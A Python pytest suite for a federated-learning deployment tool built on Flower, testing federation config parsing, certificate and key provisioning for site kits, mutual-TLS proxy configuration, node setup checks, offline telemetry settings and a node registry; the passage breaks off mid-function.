"""Provisioning, kits, node init/check and the guide, without starting Flower (fast)."""

from __future__ import annotations

import argparse
import json
import re
import ssl
import stat
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from cryptography import x509
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import load_ssh_private_key
from deploy_helpers import DOC, doc_block, doc_commands
from typer.testing import CliRunner

from fedmeta.cli import app
from fedmeta.deploy import pki
from fedmeta.deploy.federation import FederationError, load_federation
from fedmeta.deploy.kits import provision
from fedmeta.deploy.node import NodeError, check_site, init_site, tls_probe
from fedmeta.deploy.request import RequestError
from fedmeta.paths import (
    NODE_KEY,
    NODE_PUB,
    NODE_REGISTRY,
    PINNED_SERVER_KEY,
    SITE_AUDIT_KEY,
    TLS_CLIENT_CERT_ENV,
    TLS_KEY,
    SitePaths,
)
from policies import evaluate_site, example_run_declaration, load_site_manifest

FED = """name = "unitfed"
[superlink]
host = "fl.example.org"
port = 9093
bind = "0.0.0.0"
sans = ["fl.example.org", "10.20.0.5"]

[[sites]]
id = "site-de-01"
country = "DE"
index = 0

[[sites]]
id = "site-in-01"
country = "in"
"""


def make(
    tmp: Path, text: str = FED, sites: tuple[str, ...] = ("site-de-01", "site-in-01")
) -> tuple[Path, Path]:
    """Provision, let each site create its keys (``tmp/state/<id>``), accept the requests."""
    fed = tmp / "federation.toml"
    fed.write_text(text)
    kits = tmp / "kits"
    provision(fed, kits)
    requests = [init_site(tmp / "state" / s, kits / "sites" / s).request for s in sites]
    provision(fed, kits, requests=requests)
    for s in sites:
        init_site(tmp / "state" / s, kits / "sites" / s)
    return fed, kits


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def fill(site_dir: Path) -> None:
    p = SitePaths(site_dir).manifest
    text = re.sub(r'"([A-Z]{2}): TODO[^"]*"', r'"\1: Filled In"', p.read_text())  # laws
    p.write_text(
        re.sub(r'"TODO[^"]*"', '"Filled In"', text).replace(
            'dpo_contact = "Filled In"', 'dpo_contact = "dpo@x.example"'
        )
    )


# ---- federation file -------------------------------------------------------------------
@pytest.mark.parametrize(
    ("edit", "field"),
    [
        (lambda t: t.replace('country = "in"', 'country = "XX"'), "sites[1].country"),
        (lambda t: t.replace('id = "site-in-01"', 'id = "site-de-01"'), "sites"),
        (lambda t: t.replace('host = "fl.example.org"\n', ""), "superlink.host"),
        (lambda t: t.replace("port = 9093", "port = 70000"), "superlink.port"),
        (lambda t: t.replace("bind =", "bnd ="), "superlink.bnd"),
        (lambda t: t.replace('"10.20.0.5"', '"not a host!"'), "superlink.sans[1]"),
        (lambda t: t.replace('name = "unitfed"', 'name = "has space"'), "name"),
    ],
)
def test_federation_errors_name_file_and_field(tmp_path, edit, field):
    path = tmp_path / "fed.toml"
    path.write_text(edit(FED))
    with pytest.raises(FederationError) as exc:
        load_federation(path)
    msg = str(exc.value)
    assert "\n" not in msg and msg.startswith(f"{path}: field '{field}'"), msg


def test_federation_defaults(tmp_path):
    path = tmp_path / "fed.toml"
    path.write_text(FED)
    fed = load_federation(path)
    assert fed.sites[1].country == "IN"
    assert fed.runtime_port("site-in-01") == 9095 and fed.site_index("site-in-01") == 1
    assert fed.superlink.certificate_names() == (
        "fl.example.org",
        "10.20.0.5",
        "127.0.0.1",
        "localhost",
    )
    assert fed.superlink.local_address == "127.0.0.1:9091"
    path.write_text(FED.replace("port = 9093", "port = 9093\nlocal_port = 9093"))
    with pytest.raises(FederationError, match="local_port must differ"):
        load_federation(path)
    path.write_text("name = [")
    with pytest.raises(FederationError, match="not valid TOML"):
        load_federation(path)


# ---- provisioning ----------------------------------------------------------------------
def test_kits_hold_no_site_private_key_and_sites_hold_theirs(tmp_path):
    _, kits = make(tmp_path)
    private = [
        p
        for p in kits.rglob("*")
        if p.is_file() and (p.suffix == ".key" or p.name == "audit-signing.pem")
    ]
    assert sorted(str(p.relative_to(kits)) for p in private) == [
        "ca/ca.key",
        "coordinator/superlink.key",
    ]
    assert all(mode(p) == 0o600 for p in private)
    # no file anywhere under kits/ holds a site's private key, in any encoding
    site_secrets = []
    for site in ("site-de-01", "site-in-01"):
        keys = tmp_path / "state" / site / "keys"
        assert {p.name for p in keys.iterdir() if p.is_file()} >= {
            "supernode-auth.key",
            "audit-signing.pem",
            "tls-client.key",
        }
        for name in ("supernode-auth.key", "audit-signing.pem", "tls-client.key"):
            assert mode(keys / name) == 0o600
            site_secrets.append((keys / name).read_bytes())
    blobs = [p.read_bytes() for p in kits.rglob("*") if p.is_file()]
    assert not [1 for secret in site_secrets for b in blobs if secret.strip() in b]
    holders = sorted(
        str(p.relative_to(kits))
        for p in kits.rglob("*")
        if p.is_file() and b"PRIVATE KEY" in p.read_bytes()
    )
    # the coordinator's own: TLS and the federation's one server audit key
    assert holders == [
        "ca/ca.key",
        "coordinator/keys/server-audit-signing.pem",
        "coordinator/superlink.key",
    ]
    assert mode(kits / "coordinator" / "keys" / "server-audit-signing.pem") == 0o600
    pinned = kits / "coordinator" / "keys" / "server-audit-signing.pub.pem"
    for site in ("site-de-01", "site-in-01"):  # pinned in every site kit, copied by init
        assert (
            (kits / "sites" / site / PINNED_SERVER_KEY).read_bytes()
            == pinned.read_bytes()
            == (tmp_path / "state" / site / PINNED_SERVER_KEY).read_bytes()
        )
    coord = kits / "coordinator"
    assert sorted(p.name for p in (coord / "site-keys").iterdir()) == [
        "site-de-01.pub",
        "site-in-01.pub",
    ]
    for site in ("site-de-01", "site-in-01"):  # the public halves the sites created
        assert (coord / "site-keys" / f"{site}.pub").read_bytes() == (
            tmp_path / "state" / site / NODE_PUB
        ).read_bytes()
    for script in (
        coord / "start-superlink.sh",
        coord / "register-sites.sh",
        coord / "start-proxy.sh",
        coord / "unregister-site.sh",
        kits / "sites" / "site-de-01" / "start-node.sh",
    ):
        assert mode(script) & 0o111
        assert subprocess.run(["sh", "-n", str(script)]).returncode == 0
    connection = (coord / "flwr-connection.toml").read_text()
    assert str(tmp_path) not in connection and "@KIT@/ca.pem" in connection
    assert 'address = "127.0.0.1:9091"' in connection  # the Control API on loopback only
    for site in ("site-de-01", "site-in-01"):  # site kits carry no Control API configuration
        kit = kits / "sites" / site
        assert not (kit / "flwr-connection.toml").exists()
        assert "9091" not in "".join(p.read_text() for p in kit.iterdir() if p.is_file())


def test_provisioner_refuses_bad_requests(tmp_path):
    fed, kits = make(tmp_path)
    req = tmp_path / "state/site-de-01/request-site-de-01.json"
    data = json.loads(req.read_text())
    cases = {
        "another-federation": ({**data, "federation": "other"}, "another federation"),
        "unknown-site": ({**data, "site_id": "site-xx-01"}, "not a site of the federation"),
        "private-key": (
            {
                **data,
                "audit_public_key": (
                    tmp_path / "state/site-de-01/keys/audit-signing.pem"
                ).read_text(),
            },
            "PRIVATE KEY",
        ),
        "bad-node-key": (
            {**data, "supernode_public_key": "ssh-ed25519 AAAA"},
            "supernode_public_key",
        ),
        "csr-for-other-site": (
            {
                **data,
                "tls_csr": json.loads(
                    (tmp_path / "state/site-in-01/request-site-in-01.json").read_text()
                )["tls_csr"],
            },
            "CN=site-de-01",
        ),
    }
    for name, (content, message) in cases.items():
        bad = tmp_path / f"{name}.json"
        bad.write_text(json.dumps(content))
        with pytest.raises(RequestError, match=message):
            provision(fed, kits, requests=[bad])
    tampered = json.loads(req.read_text())
    csr = tampered["tls_csr"]
    body = csr.splitlines()
    mid = len(body) // 2
    body[mid] = body[mid][:10] + ("A" if body[mid][10] != "A" else "B") + body[mid][11:]
    tampered["tls_csr"] = "\n".join(body)
    bad = tmp_path / "tampered.json"
    bad.write_text(json.dumps(tampered))
    with pytest.raises((RequestError, pki.PkiError)):
        provision(fed, kits, requests=[bad])
    res = CliRunner().invoke(
        app,
        [
            "provision",
            str(fed),
            "--out",
            str(kits),
            "--request",
            str(tmp_path / "unknown-site.json"),
        ],
    )
    assert res.exit_code == 2 and "not a site of the federation" in res.output


def test_client_certificate_is_issued_for_the_sites_key(tmp_path):
    _, kits = make(tmp_path)
    ca = x509.load_pem_x509_certificate((kits / "ca/ca.pem").read_bytes())
    for site in ("site-de-01", "site-in-01"):
        cert = x509.load_pem_x509_certificate((kits / "sites" / site / "client.pem").read_bytes())
        cert.verify_directly_issued_by(ca)
        assert pki.cert_common_name(cert) == site
        eku = cert.extensions.get_extension_for_class(x509.ExtendedKeyUsage).value
        assert list(eku) == [x509.oid.ExtendedKeyUsageOID.CLIENT_AUTH]
        key = pki.load_ec_private_pem(tmp_path / "state" / site / TLS_KEY)
        assert pki.same_public_key(cert.public_key(), key.public_key())
        assert (tmp_path / "state" / site / "client.pem").read_bytes() == (
            kits / "sites" / site / "client.pem"
        ).read_bytes()


def test_nginx_conf_exposes_only_the_fleet_api_with_mutual_tls(tmp_path):
    _, kits = make(tmp_path)
    conf = (kits / "coordinator/nginx.conf").read_text()
    assert "listen 0.0.0.0:9093 ssl;" in conf
    assert "ssl_verify_client on;" in conf and "ssl_client_certificate ca.pem;" in conf
    locations = re.findall(r"location\s+(\S+)\s*{", conf)
    assert locations == ["/v1/fleet/", "/"]
    assert "proxy_pass https://superlink/v1/fleet/;" in conf
    assert "server 127.0.0.1:9091;" in conf and conf.count("proxy_pass") == 1
    root = conf[conf.index("location / {") :]
    assert "return 404;" in root.split("}")[0]
    start = (kits / "coordinator/start-superlink.sh").read_text()
    secure = start[start.index('STATE="${SUPERLINK_STATE:-$KIT/state}"') :]
    assert "--host 127.0.0.1 --port 9091" in secure and "0.0.0.0" not in secure
    import shutil

    if shutil.which("nginx"):  # the real parser, where nginx is installed (make nginx)
        state = tmp_path / "nginx-state"
        (state / "tmp").mkdir(parents=True)
        res = subprocess.run(
            [
                "nginx",
                "-t",
                "-e",
                "stderr",
                "-p",
                f"{state}/",
                "-c",
                str(kits / "coordinator/nginx.conf"),
            ],
            capture_output=True,
            text=True,
            timeout=60,
        )
        assert res.returncode == 0, res.stderr


def test_keys_in_the_formats_flower_reads(tmp_path):
    from flwr.cli.supernode.register import try_load_public_key
    from flwr.supernode.cli.flower_supernode import _try_setup_client_authentication

    _, kits = make(tmp_path)
    site = tmp_path / "state" / "site-de-01"
    key = load_ssh_private_key((site / NODE_KEY).read_bytes(), None)
    assert isinstance(key, ec.EllipticCurvePrivateKey) and key.curve.name == "secp384r1"
    # the very functions flower-supernode and `flwr supernode register` call
    args = argparse.Namespace(
        auth_supernode_private_key=str(site / NODE_KEY), auth_supernode_public_key=None
    )
    private, public = _try_setup_client_authentication(args)
    assert try_load_public_key(kits / "coordinator/site-keys/site-de-01.pub")
    assert pki.same_public_key(public, pki.load_node_public(site / NODE_PUB))


def test_superlink_certificate(tmp_path):
    _, kits = make(tmp_path)
    ca = x509.load_pem_x509_certificate((kits / "ca/ca.pem").read_bytes())
    cert = x509.load_pem_x509_certificate((kits / "coordinator/superlink.pem").read_bytes())
    cert.verify_directly_issued_by(ca)
    assert set(pki.cert_names(cert)) == {"fl.example.org", "10.20.0.5", "127.0.0.1", "localhost"}
    eku = cert.extensions.get_extension_for_class(x509.ExtendedKeyUsage).value
    assert list(eku) == [x509.oid.ExtendedKeyUsageOID.SERVER_AUTH]
    assert ca.extensions.get_extension_for_class(x509.BasicConstraints).value.ca
    assert (kits / "sites/site-de-01/ca.pem").read_bytes() == (kits / "ca/ca.pem").read_bytes()


def test_rerun_keeps_keys_force_replaces_them(tmp_path):
    fed, kits = make(tmp_path)
    secrets = sorted(p for p in kits.rglob("*") if p.suffix in (".key", ".pem"))
    before = {p: p.read_bytes() for p in secrets}
    manifest = kits / "sites/site-de-01/manifest.toml"
    manifest.write_text(manifest.read_text() + "# edited\n")
    provision(fed, kits)  # the accepted requests are remembered: nothing changes
    assert {p: p.read_bytes() for p in secrets} == before
    assert manifest.read_text().endswith("# edited\n")
    # new names: the SuperLink certificate is re-issued, with the same key
    fed.write_text(FED.replace('"10.20.0.5"', '"10.20.0.6"'))
    report = provision(fed, kits)
    assert any("re-issued" in n for n in report.notes)
    changed = {p for p in secrets if p.read_bytes() != before[p]}
    assert changed == {kits / "coordinator/superlink.pem"}
    provision(fed, kits, force=True)
    for p in (
        kits / "ca/ca.key",
        kits / "coordinator/superlink.key",
        kits / "coordinator/keys/server-audit-signing.pem",
    ):
        assert p.read_bytes() != before[p] and mode(p) == 0o600
    assert (kits / "sites/site-de-01/server-audit.pub.pem").read_bytes() == (
        kits / "coordinator/keys/server-audit-signing.pub.pem"
    ).read_bytes()  # re-pinned
    # a new CA: the client certificates are re-issued from the stored requests
    client = kits / "sites/site-de-01/client.pem"
    assert client.read_bytes() != before[client]
    assert pki.signed_by(pki.load_cert(client), pki.load_cert(kits / "ca/ca.pem"))
    assert not manifest.read_text().endswith("# edited\n")


def test_rotation_replaces_the_registered_key(tmp_path):
    fed, kits = make(tmp_path)
    site_dir = tmp_path / "state/site-de-01"
    old_pub = (kits / "coordinator/site-keys/site-de-01.pub").read_bytes()
    report = init_site(site_dir, new_auth_key=True)
    report = provision(fed, kits, requests=[report.request])
    new_pub = (kits / "coordinator/site-keys/site-de-01.pub").read_bytes()
    assert new_pub != old_pub and new_pub == (site_dir / NODE_PUB).read_bytes()
    assert any("register-sites.sh CONNECTION site-de-01" in n for n in report.notes)
    # two requests for one site in one call: refused, loudly
    with pytest.raises(ValueError, match="second request"):
        provision(fed, kits, requests=[site_dir / "request-site-de-01.json"] * 2)


def test_kit_with_site_private_keys_is_refused(tmp_path):
    fed, kits = make(tmp_path)
    keys = kits / "sites/site-de-01/keys"
    keys.mkdir()
    pki.write_private(keys / "supernode-auth.key", b"x")
    with pytest.raises(ValueError, match="holds a site's private keys"):
        provision(fed, kits)
    with pytest.raises(NodeError, match="must hold no keys"):
        init_site(tmp_path / "other", kits / "sites/site-de-01")


def test_removed_site_leaves_the_coordinator_kit(tmp_path):
    fed, kits = make(tmp_path)
    fed.write_text(FED.split('\n[[sites]]\nid = "site-in-01"')[0])
    report = provision(fed, kits)
    assert not (kits / "coordinator/site-keys/site-in-01.pub").exists()
    assert any("site-in-01 is no longer in the federation" in n for n in report.notes)


def test_scripts_use_only_flags_the_installed_flower_has(tmp_path):
    _, kits = make(tmp_path)
    bin_dir = Path(sys.executable).parent  # the venv's flower-superlink / flower-supernode
    for script, binary in (
        (kits / "coordinator/start-superlink.sh", "flower-superlink"),
        (kits / "sites/site-de-01/start-node.sh", "flower-supernode"),
    ):
        helptext = subprocess.run(
            [str(bin_dir / binary), "--help"], capture_output=True, text=True, timeout=60
        ).stdout
        text = "\n".join(
            line
            for line in script.read_text().splitlines()
            if not line.lstrip().startswith(("echo", '"then run', "#"))
        )
        used = set(re.findall(r"(?<![\w-])(--[a-z][a-z-]+)", text))
        assert len(used) >= 6 and not sorted(f for f in used if f not in helptext)


@pytest.mark.parametrize("country", ["DE", "FR", "IN", "US"])
def test_manifest_template_passes_the_example_run_once_filled(tmp_path, country):
    _, kits = make(tmp_path, FED.replace('country = "DE"', f'country = "{country}"'))
    site = kits / "sites/site-de-01"
    fill(site)
    manifest = load_site_manifest(SitePaths(site).manifest)
    assert manifest.country == country
    assert not [d for d in evaluate_site(example_run_declaration(), manifest) if d.denied]


# ---- node init / check -----------------------------------------------------------------
def test_node_init_creates_keys_request_then_check(tmp_path):
    fed = tmp_path / "federation.toml"
    fed.write_text(FED)
    kits = tmp_path / "kits"
    provision(fed, kits)
    site_dir = tmp_path / "s" / "site-de-01"
    report = init_site(site_dir, kits / "sites/site-de-01")
    assert "manifest.toml" in report.copied and "client.pem" not in report.copied
    assert set(report.created) == {
        "keys/supernode-auth.key",
        "keys/audit-signing.pem",
        "keys/tls-client.key",
    }
    assert mode(site_dir / NODE_KEY) == 0o600
    assert mode(site_dir / "keys") == 0o700 and (site_dir / "audit").is_dir()
    assert not SitePaths(site_dir).ledger.exists()
    request = report.request
    assert request == site_dir / "request-site-de-01.json"
    assert b"PRIVATE" not in request.read_bytes()
    bad = {c.name for c in check_site(site_dir, connect=False) if not c.ok}
    assert bad == {"manifest", "TLS client certificate"}  # TODOs; request not accepted yet
    # init again: same keys, same request bytes (its sha256 was read out over the phone)
    sha = report.request_sha256
    again = init_site(site_dir, kits / "sites/site-de-01")
    assert again.request_sha256 == sha and not again.created
    provision(fed, kits, requests=[request])
    report = init_site(site_dir, kits / "sites/site-de-01")
    assert "client.pem" in report.copied
    fill(site_dir)
    assert all(c.ok for c in check_site(site_dir, connect=False))
    # init again keeps the site's own manifest and keys
    SitePaths(site_dir).manifest.write_text(SitePaths(site_dir).manifest.read_text() + "#\n")
    init_site(site_dir, kits / "sites/site-de-01")
    assert SitePaths(site_dir).manifest.read_text().endswith("#\n")
    # rotation: new key, new request
    old = (site_dir / NODE_PUB).read_bytes()
    report = init_site(site_dir, new_auth_key=True)
    assert report.new_public_key and report.new_public_key.read_bytes() != old
    assert report.request_sha256 != sha
    assert len(list((site_dir / "keys/retired").glob("*.key"))) == 1
    assert all(c.ok for c in check_site(site_dir, connect=False))


def test_client_pem_for_another_key_is_not_copied(tmp_path):
    _, kits = make(tmp_path)
    other = tmp_path / "elsewhere"
    report = init_site(other, kits / "sites/site-de-01")  # new keys, old client.pem
    assert "client.pem" not in report.copied and not (other / "client.pem").exists()
    assert any("not issued for this site's TLS key" in n for n in report.notes)


def test_node_check_failures(tmp_path):
    _, kits = make(tmp_path)
    site_dir = tmp_path / "state/site-de-01"
    fill(site_dir)
    (site_dir / NODE_KEY).chmod(0o644)
    (site_dir / "site.json").write_text("{}")  # trained before, but the ledger is gone
    log = SitePaths(site_dir).audit_log
    from fedmeta.audit import AuditLog

    with AuditLog.open(log, site_dir / SITE_AUDIT_KEY, "site-de-01") as a:
        a.append("round.train", run_id="r", round=1, decision="allow")
    log.write_text(log.read_text().replace('"round":1', '"round":2'))
    (site_dir / "client.pem").write_bytes((kits / "coordinator/superlink.pem").read_bytes())
    checks = {c.name: c for c in check_site(site_dir, connect=False)}
    assert "chmod 600" in checks["SuperNode key"].detail
    assert not checks["privacy ledger"].ok and "restore" in checks["privacy ledger"].detail
    assert not checks["audit log"].ok
    assert not checks["TLS client certificate"].ok
    assert "does not certify" in checks["TLS client certificate"].detail
    with pytest.raises(NodeError, match="quotes"):
        init_site(tmp_path / 'bad"dir', kits / "sites/site-de-01")


def _tls_server(cert: Path, key: Path) -> tuple[int, threading.Thread]:
    import socket

    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(cert, key)
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen(4)
    sock.settimeout(10)

    def serve() -> None:
        with sock:
            for _ in range(3):
                try:
                    conn, _ = sock.accept()
                except OSError:
                    return
                try:
                    with ctx.wrap_socket(conn, server_side=True) as tls:
                        tls.recv(4096)
                        tls.sendall(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n")
                except (ssl.SSLError, OSError):
                    pass

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    return sock.getsockname()[1], thread


def test_tls_probe_verifies_chain_and_name(tmp_path):
    fed, kits = make(tmp_path)
    coord = kits / "coordinator"
    port, _ = _tls_server(coord / "superlink.pem", coord / "superlink.key")
    assert "TLSv1" in tls_probe("127.0.0.1", port, kits / "ca/ca.pem")
    other = tmp_path / "other"
    other.mkdir()
    make(other)  # another federation's CA
    with pytest.raises(ssl.SSLCertVerificationError, match="verify failed"):
        tls_probe("127.0.0.1", port, other / "kits/ca/ca.pem")
    ca_key = pki.load_ec_private_pem(kits / "ca/ca.key")
    key = pki.new_tls_key()
    pki.write_private(tmp_path / "named.key", pki.key_pem(key))
    pki.write_public(
        tmp_path / "named.pem",
        pki.cert_pem(
            pki.issue_server_cert(
                ca_key, pki.load_cert(kits / "ca/ca.pem"), key, ("fl.example.org",), 30
            )
        ),
    )
    port, _ = _tls_server(tmp_path / "named.pem", tmp_path / "named.key")
    with pytest.raises(ssl.SSLCertVerificationError, match="mismatch|match"):
        tls_probe("127.0.0.1", port, kits / "ca/ca.pem")  # not among the names


# ---- command line ------------------------------------------------------------------------
def test_cli_user_errors_are_one_red_line(tmp_path):
    runner = CliRunner()
    res = runner.invoke(
        app, ["provision", str(tmp_path / "nope.toml"), "--out", str(tmp_path / "k")]
    )
    assert res.exit_code == 2 and "file not found" in res.output
    _, kits = make(tmp_path)
    res = runner.invoke(app, ["node", "init", str(tmp_path / "s"), "--kit", str(tmp_path)])
    assert res.exit_code == 2 and "node.toml" in res.output
    site = tmp_path / "state/site-de-01"
    res = runner.invoke(app, ["node", "init", str(site), "--kit", str(kits / "sites/site-de-01")])
    assert res.exit_code == 0 and "sha256" in res.output and "request-site-de-01.json" in res.output
    # node init approved the installed release's app (fedmeta.deploy.appcheck)
    from fedmeta.deploy.appcheck import build_release_fab, read_approvals, release_digest
    from fedmeta.deploy.apphash import app_root

    (approval,) = read_approvals(site)
    assert approval.kind == "release_sha256" and approval.sha256 in res.output
    assert approval.sha256 == release_digest(build_release_fab(app_root()))
    res = runner.invoke(app, ["node", "check", str(site), "--no-connect"])
    assert res.exit_code == 1 and "TODO" in res.output
    fill(site)
    res = runner.invoke(app, ["node", "check", str(site), "--no-connect"])
    assert res.exit_code == 0 and "all checks passed" in res.output
    assert "approved apps" in res.output and approval.sha256[:12] in res.output


# ---- the guide -----------------------------------------------------------------------------
def test_every_documented_command_is_in_the_deployment_test():
    """Fast drift check; the slow test asserts each of them was actually run."""
    commands = doc_commands(DOC.read_text())
    assert len(commands) >= 15
    source = " ".join((Path(__file__).parent / "test_deployment.py").read_text().split())
    source = source.replace('" "', "")  # implicit string concatenation
    missing = [c for c in commands if c not in source]
    assert not missing, missing


def test_the_guides_toml_examples_are_valid():
    import tomllib

    from fedmeta.config import RunConfig
    from fedmeta.deploy.federation import parse_federation

    text = DOC.read_text()
    fed = parse_federation(tomllib.loads(doc_block(text, "toml", "federation.toml")))
    assert [s.id for s in fed.sites] == ["site-de-01", "site-in-01"]
    run = tomllib.loads(doc_block(text, "toml", "run.toml"))
    assert RunConfig.from_flat(run).dp is True


# ---- never call home -----------------------------------------------------------------------
CALLS_FLOWER = re.compile(r"(?:^|[\s;&|(])(flwr|flower-[a-z]+)(?=\s|$)")
SOURCES_ENV = re.compile(r"^\.\s+\S*flwr-offline\.env$")


def flower_commands_without_offline_env(text: str) -> list[str]:
    """Every `flwr`/`flower-*` command of a ```sh block that is not preceded, in its block,
    by sourcing a kit's flwr-offline.env (each block is one shell session)."""
    bad = []
    for block in re.findall(r"^```sh\n(.*?)^```", text, flags=re.S | re.M):
        sourced = False
        for line in doc_commands(f"```sh\n{block}```"):
            if SOURCES_ENV.match(line):
                sourced = True
            elif (
                CALLS_FLOWER.search(line)
                and not sourced
                and not re.search(
                    r"FLWR_DISABLE_UPDATE_CHECK=1\b.*FLWR_TELEMETRY_ENABLED=0|"
                    r"FLWR_TELEMETRY_ENABLED=0\b.*FLWR_DISABLE_UPDATE_CHECK=1",
                    line,
                )
            ):
                bad.append(line)
    return bad


def test_no_flower_command_in_the_guide_runs_without_the_offline_env():
    text = DOC.read_text()
    assert not flower_commands_without_offline_env(text)
    flwr_lines = [c for c in doc_commands(text) if CALLS_FLOWER.search(c)]
    assert len(flwr_lines) >= 2  # the check has something to check
    # and it does catch one: the same guide with a sourcing line removed
    broken = text.replace(". ./flwr-offline.env\n", "", 1)
    assert flower_commands_without_offline_env(broken)
    assert flower_commands_without_offline_env("```sh\nfedmeta x\nflwr run . f\n```\n")
    assert not flower_commands_without_offline_env(
        "```sh\n. <kit>/flwr-offline.env\nflwr run . f\n```\n"
    )


def test_env_file_switches_flower_off_in_every_kit_and_script(tmp_path):
    from fedmeta.offline import OFFLINE_ENV

    _, kits = make(tmp_path)
    env_files = [
        kits / "coordinator/flwr-offline.env",
        kits / "sites/site-de-01/flwr-offline.env",
        tmp_path / "state/site-de-01/flwr-offline.env",
    ]
    for path in env_files:
        res = subprocess.run(
            ["sh", "-c", f'. "{path}" && env'],
            capture_output=True,
            text=True,
            env={"PATH": "/usr/bin:/bin"},
            check=True,
        )
        env = dict(line.split("=", 1) for line in res.stdout.splitlines() if "=" in line)
        assert {k: env.get(k) for k in OFFLINE_ENV} == OFFLINE_ENV, path
    assert OFFLINE_ENV["FLWR_DISABLE_UPDATE_CHECK"] == "1"
    assert OFFLINE_ENV["FLWR_TELEMETRY_ENABLED"] == "0"
    for script in [*(kits / "coordinator").glob("*.sh"), kits / "sites/site-de-01/start-node.sh"]:
        text = script.read_text()
        if (
            "flwr" in text.replace("flwr-offline", "").replace("flwr-home", "")
            or "flower-" in text
            or "fedmeta registry" in text
        ):
            assert (
                '. "$KIT/flwr-offline.env"' in text or '. "$SITE_DIR/flwr-offline.env"' in text
            ), script


# ---- registry and binding ----------------------------------------------------------------
def fake_flwr(tmp_path: Path, script: str) -> dict[str, str]:
    """A `flwr` on PATH that answers like Flower's CLI (see script) and logs its calls."""
    bin_dir = tmp_path / "fakebin"
    bin_dir.mkdir(exist_ok=True)
    (bin_dir / "flwr").write_text(
        '#!/bin/sh\necho "$@" >> ' + str(tmp_path / "calls.log") + "\n" + script
    )
    (bin_dir / "flwr").chmod(0o755)
    import os

    return {"PATH": f"{bin_dir}:{os.environ['PATH']}"}


def test_registry_register_is_idempotent_rotates_and_fails_loudly(tmp_path, monkeypatch):
    from fedmeta.deploy.registry import (
        RegistryError,
        read_registry,
        register_sites,
        unregister_sites,
    )

    fed, kits = make(tmp_path)
    coord = kits / "coordinator"
    counter = tmp_path / "n"
    counter.write_text("100")
    env = fake_flwr(
        tmp_path,
        f"""
case "$2" in
  register) n=$(cat {counter}); echo $((n+1)) > {counter}
            printf '{{"success": true, "node-id": %s}}\\n' "$n";;
  unregister) printf '{{"success": true, "node-id": %s}}\\n' "$3";;
esac
""",
    )
    monkeypatch.setenv("PATH", env["PATH"])
    lines = register_sites(coord, "unitfed", [])
    assert lines == ["registered site-de-01 as node 100", "registered site-in-01 as node 101"]
    reg = read_registry(coord / NODE_REGISTRY)
    assert {s: e.node_id for s, e in reg.items()} == {"site-de-01": 100, "site-in-01": 101}
    assert register_sites(coord, "unitfed", []) == [
        "site-de-01: already registered as node 100",
        "site-in-01: already registered as node 101",
    ]
    # rotation: a new key gets a new node id, the old node is unregistered
    report = init_site(tmp_path / "state/site-de-01", new_auth_key=True)
    provision(fed, kits, requests=[report.request])
    lines = register_sites(coord, "unitfed", ["site-de-01"])
    assert lines == [
        "registered site-de-01 as node 102",
        "unregistered site-de-01's former node 100 (key rotated)",
    ]
    assert "supernode unregister 100 unitfed" in (tmp_path / "calls.log").read_text()
    assert read_registry(coord / NODE_REGISTRY)["site-de-01"].node_id == 102
    assert unregister_sites(coord, "unitfed", ["site-in-01"]) == [
        "unregistered site-in-01 (node 101)"
    ]
    assert "site-in-01" not in read_registry(coord / NODE_REGISTRY)
    # a failing registration: non-zero, no empty id written, the registry unchanged
    before = (coord / NODE_REGISTRY).read_bytes()
    env = fake_flwr(
        tmp_path,
        """printf '{"success": false, "error-message": "boom"}\\n'
exit 1
""",
    )
    monkeypatch.setenv("PATH", env["PATH"])
    with pytest.raises(RegistryError, match="site-in-01.*failed: boom"):
        register_sites(coord, "unitfed", ["site-in-01"])
    assert (coord / NODE_REGISTRY).read_bytes() == before
    env = fake_flwr(tmp_path, "echo 'registered, but no id'\n")  # exit 0, no node id
    monkeypatch.setenv("PATH", env["PATH"])
    with pytest.raises(RegistryError, match="failed"):
        register_sites(coord, "unitfed", ["site-in-01"])
    assert (coord / NODE_REGISTRY).read_bytes() == before
    with pytest.raises(RegistryError, match="not in"):
        unregister_sites(coord, "unitfed", ["site-in-01"])
    # the script exits non-zero too
    res = subprocess.run(
        [str(coord / "register-sites.sh"), "unitfed", "site-in-01"],
        capture_output=True,
        text=True,
        timeout=120,
        env={**__import__("os").environ, "PATH": f"{Path(sys.executable).parent}:{env['PATH']}"},
    )
    assert res.returncode == 1 and "failed" in res.stderr
    assert (coord / NODE_REGISTRY).read_bytes() == before


def test_registry_rejects_malformed_lines(tmp_path):
    from fedmeta.deploy.registry import RegistryError, read_registry

    path = tmp_path / "node-ids.txt"
    for bad in (
        "site-a\n",
        "site-a  SHA256:x\n",
        "site-a 12\n",
        "site-a 1 SHA256:x\nsite-a 2 SHA256:y\n",
    ):
        path.write_text(bad)
        with pytest.raises(RegistryError, match="node-ids.txt"):
            read_registry(path)


def test_server_binds_nodes_to_sites_from_the_registry(tmp_path, monkeypatch):
    from fedmeta.deploy.binding import bind_site
    from fedmeta.deploy.registry import Entry, write_registry
    from fedmeta.paths import NODE_REGISTRY_ENV as REGISTRY_ENV

    monkeypatch.delenv(REGISTRY_ENV, raising=False)
    assert bind_site(7, "site-x") == ("site-x", "")
    path = tmp_path / "node-ids.txt"
    write_registry(
        path, {"site-a": Entry("site-a", 11, "SHA256:a"), "site-b": Entry("site-b", 22, "SHA256:b")}
    )
    monkeypatch.setenv(REGISTRY_ENV, str(path))
    assert bind_site(11, "site-a") == ("site-a", "")
    site, why = bind_site(22, "site-a")  # site b's node claims to be site a
    assert site is None and "registered for 'site-b'" in why
    site, why = bind_site(33, "site-a")  # a node nobody registered for a site
    assert site is None and "not registered for any site" in why
    path.write_text("garbage\n")
    site, why = bind_site(11, "site-a")
    assert site is None and "unreadable" in why


def test_discover_sites_refuses_and_reports_unbound_nodes(tmp_path, monkeypatch):
    """server/run.py's discover_sites with real Flower messages: the claim is not trusted."""
    from flwr.app import ConfigRecord, Message, MessageType, RecordDict
    from flwr.supercore.task_identity import TaskIdentity

    from fedmeta.config import RunConfig
    from fedmeta.deploy.registry import Entry, write_registry
    from fedmeta.paths import NODE_REGISTRY_ENV as REGISTRY_ENV
    from policies import default_site_manifest
    from server.run import discover_sites

    def reply_from(node: int, site: str) -> Message:
